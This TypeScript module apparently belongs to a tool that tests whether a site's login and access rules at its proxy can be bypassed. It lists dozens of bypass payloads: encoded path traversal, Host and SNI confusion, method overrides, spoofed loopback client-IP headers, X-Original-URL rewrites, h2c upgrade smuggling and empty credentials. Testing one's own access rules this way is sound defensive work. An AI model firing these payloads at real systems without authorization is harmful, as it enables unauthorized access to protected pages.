import type { HttpProbe } from '../../clients/probes.ts';

/** What a trick is played with: the request that is refused, and what the policy declares to be open. */
export interface Scene {
  host: string;
  /** Where the host's own page is, without a query. */
  path: string;
  port: number;
  scheme: 'http' | 'https';
  /** A host that needs no login. */
  openHost: string;
  /** A path that needs none, on this host or, where it has none, one that rules tend to open. */
  openPath: string;
  /** An address that rules may believe to be at home. */
  home: string;
}

type Change = Pick<Partial<HttpProbe>, 'path' | 'method' | 'host' | 'sni' | 'version' | 'headers' | 'lines' | 'body'>;

/**
 * A way of asking that passes some logins. Each is shown to pass one that is weak in just this
 * (access-tricks.engine.test.ts).
 */
export interface Trick {
  id: string;
  change(scene: Scene): Change;
}

const below = ({ openPath }: Scene): string => openPath.replace(/\/+$/, '');
const path = (id: string, write: (scene: Scene) => string): Trick => ({
  id,
  change: (scene) => ({ path: write(scene) }),
});
/** From below an open path back up to the page; up: one step. */
const climb = (id: string, up: string, before = '/'): Trick =>
  path(
    id,
    (scene) =>
      `${below(scene)}${before}${up.repeat(below(scene).split('/').length - 1)}${scene.path.replace(/^\//, '')}`,
  );
const host = (id: string, write: (scene: Scene) => string): Trick => ({
  id,
  change: (scene) => ({ host: write(scene), sni: scene.host }),
});
const method = (name: string): Trick => ({
  id: `method-${name === 'get' ? 'lower-case-get' : name.toLowerCase()}`,
  change: () => ({ method: name }),
});
const header = (id: string, write: (scene: Scene) => Record<string, string>): Trick => ({
  id,
  change: (scene) => ({ headers: write(scene) }),
});
/** One header that claims another address of the visitor: some rules believe the network at home. */
const claim = (name: string, from: 'loopback' | 'home' = 'loopback'): Trick =>
  header(`${name.toLowerCase()}-${from}`, ({ home }) => ({ [name]: from === 'home' ? home : '127.0.0.1' }));

const paths: readonly Trick[] = [
  climb('dot-segments', '../'),
  climb('encoded-dot-segments', '%2e%2e/'),
  climb('half-encoded-dot-segments', '.%2e/'),
  climb('upper-case-encoded-dot-segments', '%2E%2E/'),
  climb('double-encoded-dot-segments', '%252e%252e/'),
  climb('encoded-slash', '..%2f'),
  climb('upper-case-encoded-slash', '..%2F', '%2F'),
  climb('double-encoded-slash', '..%252f'),
  climb('backslash', '..\\'),
  climb('encoded-backslash', '..%5c'),
  climb('semicolon-after-dots', '..;/'),
  climb('semicolon-before-dots', '../', ';/'),
  climb('double-slash-and-dots', '../', '//../'),
  path('double-slash', ({ path: to }) => `/${to}`),
  path('single-dot', ({ path: to }) => `/.${to}`),
  path('encoded-single-dot', ({ path: to }) => `/%2e${to}`),
  path('leading-dot-segments', ({ path: to }) => `/..${to}`),
  path('semicolon-parameter', ({ path: to }) => `${to};stackproof=1`),
  path('encoded-nul', ({ path: to }) => `${to}%00`),
  path('encoded-space', ({ path: to }) => `${to}%20`),
  path('encoded-question-mark', ({ path: to, openPath }) => `${to}%3f${openPath}`),
  path('open-path-in-query', ({ path: to, openPath }) => `${to}?${openPath}`),
  path('open-path-in-fragment', ({ path: to, openPath }) => `${to}#${openPath}`),
  path('static-suffix', ({ path: to }) => `${to.replace(/\/$/, '')}/stackproof.css`),
  path('very-long-path', ({ path: to }) => `${to.replace(/\/$/, '')}/${'a'.repeat(12_000)}`),
];

const hosts: readonly Trick[] = [
  host('upper-case-host', (scene) => scene.host.toUpperCase()),
  host('trailing-dot-host', (scene) => `${scene.host}.`),
  host('port-in-host', (scene) => `${scene.host}:${scene.port}`),
  host('other-port-in-host', (scene) => `${scene.host}:8443`),
  host('trailing-dot-and-port-in-host', (scene) => `${scene.host}.:${scene.port}`),
  { id: 'handshake-for-open-host', change: ({ openHost }) => ({ sni: openHost }) },
  { id: 'duplicate-host', change: (scene) => ({ lines: [['Host', scene.openHost]] }) },
  {
    id: 'duplicate-host-reversed',
    change: (scene) => ({ host: scene.openHost, sni: scene.host, lines: [['Host', scene.host]] }),
  },
  { id: 'absolute-form', change: (scene) => ({ path: `${scene.scheme}://${scene.host}${scene.path}` }) },
  {
    id: 'absolute-form-with-open-host-line',
    change: (scene) => ({
      path: `${scene.scheme}://${scene.host}${scene.path}`,
      host: scene.openHost,
      sni: scene.host,
    }),
  },
  {
    id: 'absolute-form-of-open-host',
    change: (scene) => ({ path: `${scene.scheme}://${scene.openHost}${scene.path}` }),
  },
  { id: 'http-1-0', change: () => ({ version: '1.0' }) },
  {
    id: 'http-1-0-absolute-form-without-host',
    change: (scene) => ({
      version: '1.0',
      host: null,
      sni: scene.host,
      path: `${scene.scheme}://${scene.host}${scene.path}`,
    }),
  },
];

const methods: readonly Trick[] = [
  'HEAD',
  'OPTIONS',
  'TRACE',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'PROPFIND',
  'get',
  'X',
].map(method);

const headers: readonly Trick[] = [
  header('x-forwarded-host', ({ openHost }) => ({ 'X-Forwarded-Host': openHost })),
  header('x-forwarded-uri', ({ openPath }) => ({ 'X-Forwarded-Uri': openPath })),
  header('x-forwarded-method', () => ({ 'X-Forwarded-Method': 'OPTIONS' })),
  header('x-forwarded-proto', () => ({ 'X-Forwarded-Proto': 'http' })),
  header('x-forwarded-port', () => ({ 'X-Forwarded-Port': '80' })),
  header('x-forwarded-server', ({ openHost }) => ({ 'X-Forwarded-Server': openHost })),
  header('x-forwarded-prefix', ({ openPath }) => ({ 'X-Forwarded-Prefix': openPath })),
  header('x-forwarded-all', ({ openHost, openPath }) => ({
    'X-Forwarded-Host': openHost,
    'X-Forwarded-Uri': openPath,
    'X-Forwarded-Method': 'OPTIONS',
    'X-Forwarded-Proto': 'https',
    'X-Forwarded-For': '127.0.0.1',
  })),
  {
    id: 'x-forwarded-host-twice',
    change: ({ host: own, openHost }) => ({
      lines: [
        ['X-Forwarded-Host', openHost],
        ['X-Forwarded-Host', own],
      ],
    }),
  },
  header('x-forwarded-underscores', ({ openHost, openPath }) => ({
    X_Forwarded_Host: openHost,
    X_Forwarded_Uri: openPath,
  })),
  header('forwarded', ({ openHost }) => ({ Forwarded: `for=127.0.0.1;host=${openHost};proto=https` })),
  header('x-host', ({ openHost }) => ({ 'X-Host': openHost })),
  claim('X-Forwarded-For'),
  claim('X-Forwarded-For', 'home'),
  claim('X-Real-IP'),
  claim('X-Client-IP'),
  claim('True-Client-IP'),
  claim('CF-Connecting-IP'),
  claim('X-Custom-IP-Authorization'),
  header('x-original-url', ({ openPath }) => ({ 'X-Original-URL': openPath })),
  header('x-original-url-whole', ({ scheme, openHost }) => ({ 'X-Original-URL': `${scheme}://${openHost}/` })),
  header('x-original-uri', ({ openPath }) => ({ 'X-Original-URI': openPath })),
  header('x-original-method', () => ({ 'X-Original-Method': 'OPTIONS' })),
  header('x-rewrite-url', ({ openPath }) => ({ 'X-Rewrite-URL': openPath })),
  {
    id: 'x-rewrite-url-from-open-path',
    change: ({ path: to, openPath }) => ({ path: openPath, headers: { 'X-Rewrite-URL': to, 'X-Original-URL': to } }),
  },
  header('x-http-method-override', () => ({ 'X-HTTP-Method-Override': 'OPTIONS' })),
  header('x-method-override', () => ({ 'X-Method-Override': 'OPTIONS' })),
  header('preflight-headers', () => ({ Origin: 'https://stackproof.test', 'Access-Control-Request-Method': 'GET' })),
  {
    id: 'preflight',
    change: () => ({
      method: 'OPTIONS',
      headers: { Origin: 'https://stackproof.test', 'Access-Control-Request-Method': 'GET' },
    }),
  },
  header('connection-drops-forwarded', () => ({
    Connection: 'close, X-Forwarded-Host, X-Forwarded-Uri, X-Forwarded-Proto, X-Forwarded-Method, X-Forwarded-For',
  })),
  header('connection-drops-cookie', () => ({ Connection: 'close, Cookie, Authorization' })),
  header('upgrade-to-h2c', () => ({
    Connection: 'Upgrade, HTTP2-Settings',
    Upgrade: 'h2c',
    'HTTP2-Settings': 'AAMAAABkAAQAAP__',
  })),
  header('empty-basic-credentials', () => ({ Authorization: 'Basic Og==' })),
  header('empty-bearer-token', () => ({ Authorization: 'Bearer null' })),
  header('empty-session-cookie', () => ({ Cookie: 'authelia_session=; session=; _oauth2_proxy=; authentik_session=' })),
  header('referer-of-open-host', ({ scheme, openHost }) => ({ Referer: `${scheme}://${openHost}/` })),
  header('user-agent-of-a-robot', () => ({
    'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  })),
];

export const tricks: readonly Trick[] = [...paths, ...hosts, ...methods, ...headers];
